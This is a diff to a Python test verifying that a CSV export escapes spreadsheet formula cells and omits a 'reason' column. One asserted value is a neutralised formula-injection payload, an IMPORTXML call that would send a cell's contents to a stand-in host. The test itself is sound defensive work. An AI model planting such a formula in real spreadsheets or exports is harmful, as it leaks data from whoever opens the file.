@@ -144,7 +144,8 @@ def test_csv_export_neutralises_formulas_and_the_filled_csv_imports_unchanged(tm
     for row in rows:
         for col, cell in row.items():
             assert not cell.startswith(dangerous), (col, cell)  # safe to open in a spreadsheet
-    assert rows[0]["response"] == "'=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")" and rows[0]["reason"] == "'=reason"
+    assert rows[0]["response"] == "'=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")"
+    assert "reason" not in rows[0]  # exports are blind: no reason text (it names the policy)
     assert [r["response_id"] for r in rows] == ["'=r1", "'+r2", "'-r3", "'@r4", "''=r5", "r6", "r7", "r8"]
     assert rows[6]["response"] == "'quoted" and rows[7]["response"] == "plain"  # untouched: no formula start
     # the labeller fills oracle_label in the spreadsheet and saves the CSV
